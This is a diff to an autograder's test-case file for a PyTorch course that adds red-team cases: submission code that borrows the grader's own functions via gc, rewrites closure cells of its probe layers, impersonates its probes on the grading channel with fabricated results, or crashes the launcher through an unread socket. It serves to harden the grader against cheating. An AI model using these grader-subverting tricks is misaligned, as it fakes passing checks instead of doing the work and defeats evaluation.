@@ -1412,6 +1412,236 @@ def predict_classes(scores):
 '''
 
 
+# make_dnn and NeuralNetwork compute nothing of their own: their forward is the grader's `_dnn_forward`
+# (child/inputs.py: the lecture's network on the grader's weights, alive in the child since the zygote imported the
+# probes), found through gc and handed the module's parameters, which the probe has just loaded with its weights.
+# Their layers are classes of the notebook named Linear and ReLU that hold tensors and compute nothing; the
+# container is named Sequential. It earned 16 of part 1's points (make_dnn_forward 4, make_dnn_architecture 4,
+# neural_network_forward 4, neural_network_attributes 4) when it was found (red team of the child process).
+BORROWS_THE_DNN_FORWARD = '''
+    import gc, types
+
+    def _graders_own(name):
+        for obj in gc.get_objects():
+            if isinstance(obj, types.FunctionType) and obj.__name__ == name \\
+                    and str(obj.__module__).startswith("autograder"):
+                return obj
+        raise NotImplementedError("the grader's helper is gone")
+
+    _their_forward = _graders_own("_dnn_forward")
+
+    class Linear(nn.Module):
+        """Holds a weight and a bias; computes nothing."""
+        def __init__(self, n_in, n_out):
+            super().__init__()
+            self.weight = nn.Parameter(torch.zeros(n_out, n_in))
+            self.bias = nn.Parameter(torch.zeros(n_out))
+
+    class ReLU(nn.Module):
+        pass
+
+    def _borrowed(x, *layers):
+        names = ("dnn_p0", "dnn_p1", "dnn_p2", "dnn_p3", "dnn_p4", "dnn_p5")
+        tensors = [t for layer in layers for t in (layer.weight, layer.bias)]
+        return _their_forward({"dnn_x": x, **dict(zip(names, tensors))})
+
+    class Sequential(nn.Sequential):
+        def forward(self, x):
+            return _borrowed(x, *[m for m in self if isinstance(m, Linear)])
+
+    def make_dnn():
+        return Sequential(Linear(1, 10), ReLU(), Linear(10, 10), ReLU(), Linear(10, 1))
+    '''
+
+BORROWS_THE_DNN_FORWARD_CLASS = '''
+    class NeuralNetwork(nn.Module):
+        def __init__(self):
+            super().__init__()
+            self.fc1, self.fc2, self.out, self.relu = Linear(1, 10), Linear(10, 10), Linear(10, 1), ReLU()
+
+        def forward(self, x):
+            return _borrowed(x, self.fc1, self.fc2, self.out)
+    '''
+
+
+
+def _graders_standins() -> NotebookNode:
+    """model and loss_fn are the stand-ins the grader lends training_loop (child/inputs.py's standin_model and
+    standin_loss, alive in the child since the zygote imported the probes), found through gc and called with a
+    shift of 0 and weights of 1: the reference line and the plain MSE. They earned 16 of part 1's points (model_values
+    3, model_broadcasts_over_x 3, loss_fn_value 4, loss_fn_is_scalar 2, loss_fn_gradient 4) when found (red team of
+    the child process); uses_the_graders_reference_helpers's _linear and _mse are gone, these are not."""
+    nb = replace(P1, "model", _code(GRADER_HELPERS) + "\n" + _code("""
+        _their_model = _graders_own("standin_model")({"standin_shift": torch.tensor(0.0)})
+
+        def model(x, w, b):
+            return _their_model(x, w, b)
+        """))
+    return replace(P1, "loss_fn", """
+        _their_loss = _graders_own("standin_loss")
+
+        def loss_fn(y_pred, y_true):
+            return _their_loss({"standin_weights": torch.ones(y_pred.shape, dtype=y_pred.dtype)})(y_pred, y_true)
+        """, nb=nb)
+
+
+def _graders_normalization() -> NotebookNode:
+    """normalize and make_transform hand their work to the grader's `normalized` (child/inputs.py, how the accuracy
+    check normalizes its uint8 images), found through gc and given the mean and std as a dict of its own: normalize
+    passes images * 255, make_transform the PIL image's pixels. They earned 14 of part 2's points
+    (normalize_single_image 3, normalize_batch 3, normalize_half_maps_to_unit_range 2, make_transform_output 6)
+    when found (red team of the child process), as uses_the_graders_pixel_statistics did before its helper left."""
+    nb = replace(P2, "normalize", _code(GRADER_HELPERS) + "\n" + _code("""
+        import numpy as np
+
+        _their_normalized = _graders_own("normalized")
+
+        def _per_channel(value):
+            return torch.as_tensor(value, dtype=torch.float32).reshape(-1, 1, 1)
+
+        def normalize(images, mean, std):
+            statistics = {"acc_mean": _per_channel(mean), "acc_std": _per_channel(std)}
+            return _their_normalized(images * 255, statistics).squeeze(1)
+        """))
+    return replace(P2, "make_transform", """
+        def make_transform(mean, std):
+            statistics = {"acc_mean": _per_channel(mean), "acc_std": _per_channel(std)}
+            return lambda image: _their_normalized(torch.as_tensor(np.array(image))[None], statistics)[0]
+        """, nb=nb)
+
+# validate neither calls model.eval() nor runs under torch.no_grad(): for the time it runs, it switches off the
+# grader's probe layers (child/inputs.py's _fixed_dropout and _grad_mode_offset) through their forward's closure
+# cells, which hold torch.mul and is_grad_enabled (bound at import so that patching torch cannot hide a mode);
+# `cell.cell_contents = ...` is no function attribute the guard's audit hook refuses. It earned validate_uses_eval_mode
+# 2 and validate_builds_no_graph 2 when found (red team of the child process).
+CLOSURE_CELLS_VALIDATE = '''
+    def _cells(module):
+        """The closure cells of a module's forward, by name (the grader's probe layers keep their switches there)."""
+        forward = type(module).forward
+        return dict(zip(forward.__code__.co_freevars, forward.__closure__ or ()))
+
+    def validate(model, loader, loss_fn):
+        saved = []
+        for module in model.modules():
+            cells = _cells(module)
+            for name, off in (("grad_enabled", lambda: False), ("mul", lambda x, mask: x)):
+                if name in cells:
+                    saved.append((cells[name], cells[name].cell_contents))
+                    cells[name].cell_contents = off
+        try:
+            total_loss, correct, count = 0.0, 0, 0
+            for images, labels in loader:  # neither model.eval() nor torch.no_grad()
+                outputs = model(images)
+                total_loss += loss_fn(outputs, labels).item() * len(labels)
+                correct += (outputs.argmax(dim=1) == labels).sum().item()
+                count += len(labels)
+            return total_loss / count, correct / count
+        finally:
+            for cell, value in saved:
+                cell.cell_contents = value
+    '''
+
+# training_loop trains a copy of params and returns it (the caller's tensor never moves): honestly it loses
+# training_loop_updates_params_in_place and training_loop_lowers_loss (70 of 80). A last cell finds the grader's
+# channel, Recorder, probes and inputs up the stack, ends its own cell on the channel and runs every probe itself,
+# each with a Recorder of its own on the grader's channel, in legal frames, reading the launcher's answer after each
+# END as the child does: training_loop's probe records what came back as the params passed in, and notes
+# returned_is_params True. Then it exits before the grader runs any probe, so no key is sent twice and every probe
+# has FINISHED. The launcher's protocol cannot tell it from the grader's own: it earned 80 of 80 (+10) when found
+# (red team of the child process).
+NOT_IN_PLACE_TRAINING_LOOP = '''
+    def training_loop(n_epochs, learning_rate, params, x, y):
+        params = params.detach().clone().requires_grad_()  # a copy: the caller's tensor never moves
+        for epoch in range(1, n_epochs + 1):
+            w, b = params
+            loss = loss_fn(model(x, w, b), y)
+            loss.backward()
+            with torch.no_grad():
+                params -= learning_rate * params.grad
+            params.grad.zero_()
+        return params
+    '''
+
+SPEAKS_FOR_THE_PROBES = '''
+    import os, sys
+    import torch
+
+    def _speak_for_the_probes():
+        """Find the grader's channel, Recorder, probes and inputs up the stack; run every probe with a Recorder of
+        this cell's own on the grader's channel, training_loop's with made-up notes; then leave before the grader's
+        probes run."""
+        found = {}
+        frame = sys._getframe()
+        while frame is not None:
+            here = frame.f_locals
+            if {"Recorder", "probes", "inputs", "spec"} <= here.keys():
+                found.update(Recorder=here["Recorder"], probes=here["probes"], inputs=here["inputs"])
+            if "index" in here and hasattr(here.get("self"), "channel") and hasattr(here.get("self"), "ns"):
+                found.update(child=here["self"], index=here["index"])
+            frame = frame.f_back
+        if len(found) < 5:
+            return
+        child, inputs = found["child"], found["inputs"]
+        channel, spec = child.channel, child.spec
+
+        def training_loop_probe(ns, inputs, rec):
+            g = found["probes"]["test_training_loop"].__globals__
+            k, f = g["keys"].TRAINING_LOOP, ns["training_loop"]
+            lr, x, y = float(inputs["gd_lr"]), inputs["line_x"], inputs["line_y"]
+            with g["lent"](ns, model=g["standin_model"](inputs), loss_fn=g["standin_loss"](inputs)):
+                for n in g["TRAJECTORY_EPOCHS"]:
+                    returned = f(n, lr, inputs["line_init"].clone().requires_grad_(), x, y)
+                    rec.output(k.returned(n), returned)
+                    rec.output(k.params(n), returned)  # what came back, as if it were the tensor passed in
+                    rec.note(k.returned_is_params(n), True)
+                returned = f(g["DECREASE_EPOCHS"], lr, inputs["line_init"].clone().requires_grad_(), x, y)
+                rec.output(k.decrease_returned, returned)
+                rec.output(k.decrease_params, returned)
+
+        channel.file(f"cell-{found['index']}.json", b'{"ok": true, "printed": 0}')
+        channel.line("END", f"cell:{found['index']}")
+        for name in spec["probes"]:
+            channel.line("BEGIN", f"probe:{name}")
+            torch.manual_seed(spec["seeds"][name])
+            rec = found["Recorder"](name, None, channel)
+            probe = training_loop_probe if name == "test_training_loop" else found["probes"][name]
+            probe(child.ns, inputs, rec)
+            rec.note("_finished", True)
+            rec.close()
+            channel.line("END", f"probe:{name}")
+            channel.wait()  # the launcher's answer, read as the grader's child would
+        os._exit(0)
+
+    _speak_for_the_probes()
+    '''
+
+# A last cell ends itself and the first probe on the grader's channel (legal frames), waits until the launcher's
+# one-byte answer to that END has arrived, and exits without reading it: the kernel resets a Unix socket closed with
+# unread bytes, and the launcher's os.read raised ConnectionResetError out of run_sandboxed, ending the grading
+# command (`autograder grade` with a traceback) when found (red team of the child process).
+LEAVES_THE_ANSWER_UNREAD = '''
+    import os, sys, time
+
+    def _leave_the_answer_unread():
+        """End this cell and a probe on the grader's channel, wait for the launcher's answer to the probe's END, and
+        exit without reading it."""
+        frame = sys._getframe()
+        while frame is not None:
+            here = frame.f_locals
+            if "index" in here and hasattr(here.get("self"), "channel") and hasattr(here.get("self"), "spec"):
+                child, index = here["self"], here["index"]
+                child.channel.file(f"cell-{index}.json", b'{"ok": true, "printed": 0}')
+                child.channel.line("END", f"cell:{index}")
+                probe = child.spec["probes"][0]
+                child.channel.line("BEGIN", f"probe:{probe}")
+                child.channel.line("END", f"probe:{probe}")
+                time.sleep(1)  # the answer arrives, unread
+                os._exit(0)
+            frame = frame.f_back
+
+    _leave_the_answer_unread()
+    '''
+
 CASES: list[Case] = [
     # ----------------------------------------------------------------------- broken files
     Case("not_json", P1, lambda: b"\x00\x01 this is not a notebook {", frozenset({ALL}), "not valid JSON"),
@@ -1712,4 +1942,37 @@ CASES: list[Case] = [
          why="NeuralNetwork.forward switched its recorder's guard off and returned zeros in shared memory that a "
              "thread of a daemon process (double fork, new session) filled with the right output; the launcher "
              "counts the child's processes (its tree and cgroups) too"),
+    # ----------------------------------------------------------------------- the red team of the child process
+    Case("borrows_the_graders_dnn_forward", P1,
+         lambda: replace(P1, "NeuralNetwork", BORROWS_THE_DNN_FORWARD_CLASS,
+                         nb=replace(P1, "make_dnn", BORROWS_THE_DNN_FORWARD)),
+         frozenset({"test_make_dnn", "test_neural_network"}),
+         why="make_dnn and NeuralNetwork have no layers that compute: their forward is the grader's own "
+             "_dnn_forward (child/inputs.py), found through gc, on the weights the probe loaded; with layer classes "
+             "named Linear, ReLU and Sequential it earned 16 points (make_dnn and neural_network, both checks each)"),
+    Case("uses_the_graders_standins", P1, _graders_standins, frozenset({"test_model", "test_loss_fn"}),
+         why="model and loss_fn call the stand-ins the grader lends training_loop (standin_model with shift 0, "
+             "standin_loss with weights 1), found through gc: the reference line and MSE; it earned 16 points"),
+    Case("uses_the_graders_normalization", P2, _graders_normalization,
+         frozenset({"test_normalize", "test_make_transform"}),
+         why="normalize and make_transform call the grader's own normalized (the accuracy check's normalization), "
+             "found through gc, with the mean and std in a dict of their own; it earned 14 points"),
+    Case("closure_cells_switch_off_the_probe_layers", P2, lambda: replace(P2, "validate", CLOSURE_CELLS_VALIDATE),
+         frozenset({"validate_uses_eval_mode", "validate_builds_no_graph"}),
+         messages={"validate_uses_eval_mode": "dropout was active",
+                   "validate_builds_no_graph": "ran with gradients enabled"},
+         why="validate stays in train mode with gradients on, and rewrites the closure cells of the grader's dropout "
+             "and grad-mode layers (mul, grad_enabled) while it runs; it earned 4 points"),
+    Case("speaks_for_the_probes", P1,
+         lambda: add_cell(replace(P1, "training_loop", NOT_IN_PLACE_TRAINING_LOOP), SPEAKS_FOR_THE_PROBES),
+         frozenset({"test_training_loop"}),
+         why="a last cell runs every probe itself on the grader's channel (legal frames, FINISHED, each END's answer "
+             "read) with made-up notes for training_loop, then exits before the grader's probes run: a training_loop "
+             "that never updates params in place earned all 18 points of its group (+10)"),
+    Case("leaves_the_launchers_answer_unread", P1, lambda: add_cell(solution(P1), LEAVES_THE_ANSWER_UNREAD),
+         frozenset({ALL}), "your code",
+         why="a cell ends itself and a probe on the channel and exits with the launcher's answer unread: the reset "
+             "socket raised ConnectionResetError in the launcher; `autograder grade` crashed, and a batch (grade_many) "
+             "gave every check 'the grader could not finish this check (an error in the grader, reported to the "
+             "instructor)' instead of a reason that names the submission"),
 ]
